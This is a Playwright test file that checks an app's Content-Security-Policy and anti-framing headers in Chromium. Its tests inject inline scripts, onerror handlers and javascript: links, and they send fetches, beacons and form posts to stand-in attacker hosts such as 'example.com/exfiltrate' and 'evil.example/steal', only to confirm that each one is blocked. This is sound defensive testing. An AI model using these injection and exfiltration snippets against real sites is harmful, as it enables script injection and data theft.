/**
 * The Content-Security-Policy, proven in Chromium on the running browser host
 * (real services, the built renderer): injected script does not run, eval is
 * refused, nothing remote can be fetched, framed, posted to or based on, and
 * every refusal raises a securitypolicyviolation event. The network is never
 * needed: remote URLs are also routed to a recorder, which must stay empty.
 *
 * What the browser host cannot do (window.open, the user navigating away) is
 * the browser's business; in Electron, main.ts denies new windows and
 * navigation and cancels every non-file request (test/unit/electron).
 */
import path from 'node:path';
import type { Page } from '@playwright/test';
import { CONTENT_SECURITY_POLICY } from '../../preload/contract/csp';
import { expect, test } from './fixtures';

const ROOT = path.resolve(__dirname, '..', '..');

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

/** Opens the app, records CSP violations in the page, and records any request that tries to leave 127.0.0.1. */
async function openApp(page: Page, url: string): Promise<{ escaped: string[] }> {
  const escaped: string[] = [];
  await page.route(/^(?!http:\/\/127\.0\.0\.1:)/, (route) => {
    escaped.push(route.request().url());
    return route.abort();
  });
  await page.goto(url);
  await expect(page.getByTestId('signin-user')).toBeVisible();
  await page.evaluate(() => {
    const w = window as unknown as { __violations: Violation[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  return { escaped };
}

async function violations(page: Page): Promise<Violation[]> {
  return page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

async function expectViolation(page: Page, directive: RegExp, blocked?: RegExp): Promise<void> {
  await expect
    .poll(async () => (await violations(page)).some((v) => directive.test(v.directive) && (blocked === undefined || blocked.test(v.blocked))), {
      timeout: 5_000,
    })
    .toBe(true);
}

test.describe('CSP in Chromium (browser host)', () => {
  test('serves the renderer with the strict policy and anti-framing headers', async ({ page, host }) => {
    const response = await page.goto(host.url);
    expect(response?.status()).toBe(200);
    const headers = response?.headers() ?? {};
    expect(headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    // The same policy (minus frame-ancestors, which a meta tag cannot carry) is in the page itself, for Electron's file://.
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("script-src 'self'");
    expect(meta).not.toContain("'unsafe-inline'");
    expect(meta).not.toContain("'unsafe-eval'");
  });

  test('an injected inline script and inline event handler do not run', async ({ page, host }) => {
    const { escaped } = await openApp(page, host.url);
    const ran = await page.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const s = document.createElement('script');
      s.textContent = 'window.__x = 1';
      document.body.appendChild(s);
      const div = document.createElement('div');
      div.innerHTML = '<img src="/definitely-missing.png" onerror="window.__y = 1">';
      document.body.appendChild(div);
      const a = document.createElement('a');
      a.setAttribute('href', 'javascript:window.__z=1');
      document.body.appendChild(a);
      a.click();
      await new Promise((r) => setTimeout(r, 500));
      return { x: w.__x, y: w.__y, z: w.__z };
    });
    expect(ran).toEqual({ x: undefined, y: undefined, z: undefined });
    await expectViolation(page, /^script-src-elem$/, /^inline$/);
    await expectViolation(page, /^script-src-attr$/, /^inline$/);
    expect(escaped).toEqual([]);
  });

  test('a script from another origin is not loaded', async ({ page, host }) => {
    const { escaped } = await openApp(page, host.url);
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.src = 'https://cdn.example.com/evil.js';
      document.head.appendChild(s);
    });
    await expectViolation(page, /^script-src-elem$/, /cdn\.example\.com/);
    expect(escaped).toEqual([]);
  });

  test('eval, new Function and string timers are refused', async ({ page, host }) => {
    await openApp(page, host.url);
    // DevTools' own evaluation may bypass CSP for eval (Runtime.evaluate's allowUnsafeEvalBlockedByCSP), so the
    // attempts run later, in an ordinary task of the page, exactly as injected page code would.
    const outcome = await page.evaluate(
      () =>
        new Promise<Record<string, unknown>>((resolve) => {
          setTimeout(() => {
            const w = window as unknown as Record<string, unknown>;
            const attempt = (f: () => unknown): string => {
              try {
                f();
                return 'ran';
              } catch (e) {
                return (e as Error).name;
              }
            };
            const evalResult = attempt(() => (0, eval)('window.__e = 1'));
            const fnResult = attempt(() => new Function('window.__f = 1')());
            // A string handler is compiled like eval: CSP drops it.
            (setTimeout as unknown as (code: string, ms: number) => number)('window.__t = 1', 0);
            setTimeout(() => resolve({ evalResult, fnResult, e: w.__e, f: w.__f, t: w.__t }), 300);
          }, 0);
        }),
    );
    expect(outcome.evalResult).toBe('EvalError');
    expect(outcome.fnResult).toBe('EvalError');
    expect([outcome.e, outcome.f, outcome.t]).toEqual([undefined, undefined, undefined]);
    await expectViolation(page, /^script-src$/, /^eval$/);
  });

  test('nothing remote can be fetched, loaded as an image, posted to or used as <base>', async ({ page, host }) => {
    const { escaped } = await openApp(page, host.url);
    const fetchOutcome = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/exfiltrate?data=1', { mode: 'no-cors' });
        return 'fetched';
      } catch (e) {
        return (e as Error).name;
      }
    });
    expect(fetchOutcome).toBe('TypeError');
    await expectViolation(page, /^connect-src$/, /example\.com/);

    // sendBeacon only queues (returns true); CSP refuses the request itself.
    await page.evaluate(() => navigator.sendBeacon('https://example.com/beacon', 'x'));
    await expectViolation(page, /^connect-src$/, /example\.com\/beacon/);

    await page.evaluate(() => {
      const img = document.createElement('img');
      img.src = 'http://10.255.255.1/pixel.png';
      document.body.appendChild(img);
      const ws = (() => {
        try {
          return new WebSocket('ws://10.255.255.1:9/');
        } catch {
          return null;
        }
      })();
      void ws;
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.appendChild(base);
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'post';
      document.body.appendChild(form);
      form.submit();
    });
    await expectViolation(page, /^img-src$/, /10\.255\.255\.1/);
    await expectViolation(page, /^connect-src$/, /^ws:\/\/10\.255\.255\.1/);
    await expectViolation(page, /^base-uri$/);
    await expectViolation(page, /^form-action$/);
    // Still on the app, and no request ever tried to leave 127.0.0.1.
    expect(new URL(page.url()).host).toBe(new URL(host.url).host);
    expect(escaped).toEqual([]);
  });

  test('the app cannot be framed, not even by another page on 127.0.0.1 (which gets the SameSite cookie)', async ({ page, host }) => {
    // Authenticate the browser first (cookie), then open an "attacker" page on another local port: same site.
    await page.goto(host.url);
    await expect(page.getByTestId('signin-user')).toBeVisible();
    const appOrigin = new URL(host.url).origin;
    const attacker = 'http://127.0.0.1:1/attacker.html';
    await page.route(attacker, (route) =>
      route.fulfill({
        status: 200,
        contentType: 'text/html',
        body: `<!doctype html><title>attacker</title><iframe id="victim" src="${appOrigin}/" width="800" height="600"></iframe>`,
      }),
    );
    const framed = async (): Promise<{ url: string; rendered: boolean }> => {
      await page.goto(attacker);
      await page.waitForTimeout(1_500);
      const victim = page.frames().find((f) => f !== page.mainFrame());
      if (!victim) return { url: '', rendered: false };
      const rendered = await victim.evaluate(() => document.getElementById('root') !== null).catch(() => false);
      return { url: victim.url(), rendered };
    };

    // Refused: Chromium swaps the frame for its error page; the app's document never exists in it.
    const refused = await framed();
    expect(refused.rendered).toBe(false);
    expect(refused.url.startsWith(appOrigin)).toBe(false);

    // Control: the very same response with X-Frame-Options and the CSP removed does render in the frame,
    // so the refusal above is the headers' doing (not the token, cookie or Host checks).
    await page.route(`${appOrigin}/`, async (route) => {
      const real = await route.fetch();
      expect(real.status()).toBe(200);
      const headers = { ...real.headers() };
      delete headers['x-frame-options'];
      delete headers['content-security-policy'];
      await route.fulfill({ response: real, headers });
    });
    const unprotected = await framed();
    expect(unprotected.url.startsWith(appOrigin)).toBe(true);
    expect(unprotected.rendered).toBe(true);
  });
});

test.describe('why electron-builder.yml keeps grantFileProtocolExtraPrivileges on', () => {
  test("in plain Chromium (what that fuse off means), the renderer's module script is refused from file://", async ({ page }) => {
    const errors: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error') errors.push(m.text());
    });
    await page.goto(`file://${path.join(ROOT, 'dist', 'renderer', 'index.html')}`);
    await page.waitForTimeout(1_000);
    expect(await page.locator('#root').evaluate((el) => el.childElementCount)).toBe(0);
    expect(errors.some((e) => /CORS/.test(e) && /file:/.test(e))).toBe(true);
  });
});
